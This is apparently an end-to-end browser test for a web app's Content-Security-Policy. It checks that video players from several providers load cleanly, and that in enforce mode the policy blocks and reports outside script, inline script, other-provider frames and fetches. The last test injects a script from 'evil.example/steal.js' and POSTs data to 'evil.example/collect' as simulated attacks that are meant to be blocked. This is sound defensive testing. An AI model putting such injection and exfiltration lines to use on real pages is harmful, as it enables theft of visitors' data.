import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../apps/server/test/server';
import { launchChromium } from './chromium';
import type { ProviderName } from './provider-stand-ins/harness';
import { closeRouted, startStandIns, type Network, type StandIns } from './provider-stand-ins/stand-ins';

/**
 * Visitor pages' Content-Security-Policy in Chromium (issue 8, item 3; decision 18). A lead page of
 * each video provider, served by the real server, plays its provider's stand-in (routed from the
 * provider's real host): first with the policy in report-only mode, where nothing may be reported,
 * then enforced, where the player must still load and nothing may be blocked. Then what the policy
 * is for: script, frames and fetches from anywhere else are blocked, and reported to the server.
 */

type Provider = ProviderName | 'selfHosted' | 'selfHostedElsewhere';

const PAGES: Record<Provider, Record<string, string>> = {
  vimeo: { hostingVideo: 'VIMEO', videoId: '123456789' },
  panda: {
    hostingVideo: 'PANDA',
    videoId: '0f8fad5b-d9cb-469f-a165-70867728950e',
    videoLibrary: 'a1b2c3d4-e5f',
  },
  vturb: {
    hostingVideo: 'VTURB',
    videoId: '65f0c1d2e3a4b5c6d7e8f901',
    videoLibrary: '2f1e7c3a-5b6d-4e8f-9a0b-1c2d3e4f5a6b',
  },
  embed: { hostingVideo: 'EMBED', videoUrl: 'https://videos.example.com/watch/42' },
  selfHosted: { hostingVideo: 'SELF_HOSTED', videoUrl: '/assets/demo/vsl.mp4' },
  // A file on another host (a CDN): the stand-ins answer it with the demo MP4.
  selfHostedElsewhere: {
    hostingVideo: 'SELF_HOSTED',
    videoUrl: 'https://videos.example.com/__stand-in/vsl.mp4',
  },
};
const PROVIDERS = Object.keys(PAGES) as Provider[];
/** What each player puts in the page: a provider's frame, or a video element (VTurb draws its own). */
const PLAYER_ELEMENT: Record<Provider, 'iframe' | 'video'> = {
  vimeo: 'iframe',
  panda: 'iframe',
  embed: 'iframe',
  vturb: 'video',
  selfHosted: 'video',
  selfHostedElsewhere: 'video',
};

interface Violation {
  directive: string;
  blocked: string;
  disposition: string;
}

type ViolationWindow = Window & { violations: Violation[] };

let browser: Browser;
let standIns: StandIns;

interface Site {
  server: TestServer;
  /** A lead link per provider, each in a funnel of its own. */
  links: Record<Provider, string>;
}

/** A server in this CSP mode with a one-page funnel per provider, each with a lead. */
async function startSite(mode: 'enforce' | 'report-only'): Promise<Site> {
  const server = await startTestServer('sqlite', { RATE_LIMIT_PER_MINUTE: '0', CSP_MODE: mode });
  const { apiKey } = await server.services.accounts.create({ slug: 'csp', name: 'CSP' });
  const owner = async <T>(path: string, body: unknown): Promise<T> => {
    const response = await fetch(`${server.url}/api/owner${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    expect(response.status, `${path}: ${await response.clone().text()}`).toBeLessThan(300);
    return (await response.json()) as T;
  };
  const links = {} as Record<Provider, string>;
  for (const provider of PROVIDERS) {
    const funnel = await owner<{ id: string }>('/funnels', { name: `CSP ${provider}` });
    await owner(`/funnels/${funnel.id}/pages`, {
      buttonAction: 'OFFERT',
      headline: `Video from ${provider}`,
      buttonCopy: 'Buy',
      ...PAGES[provider],
    });
    links[provider] = (await owner<{ url: string }>(`/funnels/${funnel.id}/leads`, { name: 'Ana' })).url;
  }
  return { server, links };
}

interface Visit {
  context: BrowserContext;
  page: Page;
  network: Network;
}

/** Opens a lead link with the stand-ins routed and every CSP violation event of the page recorded. */
async function visit(url: string): Promise<Visit> {
  const context = await browser.newContext();
  const network = await standIns.route(context);
  await context.addInitScript(() => {
    const list: Violation[] = [];
    (window as unknown as ViolationWindow).violations = list;
    document.addEventListener('securitypolicyviolation', (event) => {
      list.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        disposition: event.disposition,
      });
    });
  });
  const page = await context.newPage();
  await page.goto(url);
  return { context, page, network };
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as ViolationWindow).violations);

/** Waits until the page's player has loaded (no facade left) and says whether it failed. */
async function playerState(page: Page): Promise<'ready' | 'failed'> {
  await expect
    .poll(async () => (await page.locator('.video-facade').count()) === 0, { timeout: 25_000 })
    .toBe(true);
  return (await page.locator('.video-error').count()) > 0 ? 'failed' : 'ready';
}

/** The server's log lines for reported violations. */
const reported = (server: TestServer) =>
  server
    .logs()
    .split('\n')
    .filter((line) => line.includes('content security policy violation'))
    .map((line) => JSON.parse(line) as { directive: string; blocked: string });

beforeAll(async () => {
  standIns = await startStandIns();
  browser = await launchChromium();
});

afterAll(async () => {
  await browser.close();
  await standIns.close();
});

describe.each(['report-only', 'enforce'] as const)('a lead page with its policy in %s mode', (mode) => {
  let site: Site;

  beforeAll(async () => {
    site = await startSite(mode);
  });

  afterAll(async () => {
    await site.server.close();
  });

  it.each(PROVIDERS)('plays its %s video with nothing reported or blocked', async (provider) => {
    const { context, page, network } = await visit(site.links[provider]);
    try {
      expect(await playerState(page)).toBe('ready');
      expect(await page.locator(`.video-mount ${PLAYER_ELEMENT[provider]}`).count()).toBe(1);
      expect(await violations(page)).toEqual([]);
      expect(network.unexpected).toEqual([]);
      // The provider's own host was asked, through the policy (nothing for a file on this server).
      const routed = [...network.routed].map((url) => new URL(url).hostname);
      if (provider === 'selfHosted') expect(routed).toEqual([]);
      else expect(routed.length).toBeGreaterThan(0);
    } finally {
      await closeRouted(context);
    }
    expect(reported(site.server)).toEqual([]);
  });
});

describe('an enforced policy', () => {
  let site: Site;

  beforeAll(async () => {
    site = await startSite('enforce');
  });

  afterAll(async () => {
    await site.server.close();
  });

  it('blocks script, frames and fetches from anywhere else, and the server hears of each', async () => {
    const { context, page, network } = await visit(site.links.vimeo);
    try {
      expect(await playerState(page)).toBe('ready');
      const outcome = await page.evaluate(async () => {
        const loaded = (element: HTMLScriptElement | HTMLIFrameElement) =>
          new Promise<string>((resolve) => {
            element.addEventListener('load', () => {
              resolve('loaded');
            });
            element.addEventListener('error', () => {
              resolve('error');
            });
            setTimeout(() => {
              resolve('nothing');
            }, 2000);
          });
        const script = document.createElement('script');
        script.src = 'https://evil.example/steal.js';
        const scriptResult = loaded(script);
        document.body.append(script);
        const inline = document.createElement('script');
        inline.textContent = 'window.inlineRan = true';
        document.body.append(inline);
        // Another provider than the funnel's own: not allowed either.
        const frame = document.createElement('iframe');
        frame.src = 'https://player-vz-a1b2c3d4-e5f.tv.pandavideo.com.br/embed/?v=0f8fad5b';
        document.body.append(frame);
        const fetched = await fetch('https://evil.example/collect', { method: 'POST', body: 'x' }).then(
          () => 'sent',
          () => 'refused',
        );
        return {
          script: await scriptResult,
          inlineRan: (window as unknown as { inlineRan?: boolean }).inlineRan ?? false,
          fetched,
        };
      });
      expect(outcome).toEqual({ script: 'error', inlineRan: false, fetched: 'refused' });
      await expect
        .poll(async () => (await violations(page)).map((v) => `${v.directive} ${v.blocked}`).sort())
        .toEqual([
          'connect-src https://evil.example/collect',
          // Chromium tells a page only the origin of a frame it blocked.
          'frame-src https://player-vz-a1b2c3d4-e5f.tv.pandavideo.com.br',
          'script-src-elem https://evil.example/steal.js',
          'script-src-elem inline',
        ]);
      expect((await violations(page)).every((v) => v.disposition === 'enforce')).toBe(true);
      // Nothing of it left the browser: the routes never saw those hosts asked.
      expect([...network.routed].filter((url) => /evil\.example|pandavideo/.test(url))).toEqual([]);
      expect(network.unexpected).toEqual([]);
      // Each violation reached the server's report endpoint, logged by origin only.
      await expect
        .poll(
          () =>
            reported(site.server)
              .map((r) => `${r.directive} ${r.blocked}`)
              .sort(),
          { timeout: 10_000 },
        )
        .toEqual([
          'connect-src https://evil.example',
          'frame-src https://player-vz-a1b2c3d4-e5f.tv.pandavideo.com.br',
          'script-src-elem https://evil.example',
          'script-src-elem inline',
        ]);
    } finally {
      await closeRouted(context);
    }
  });
});
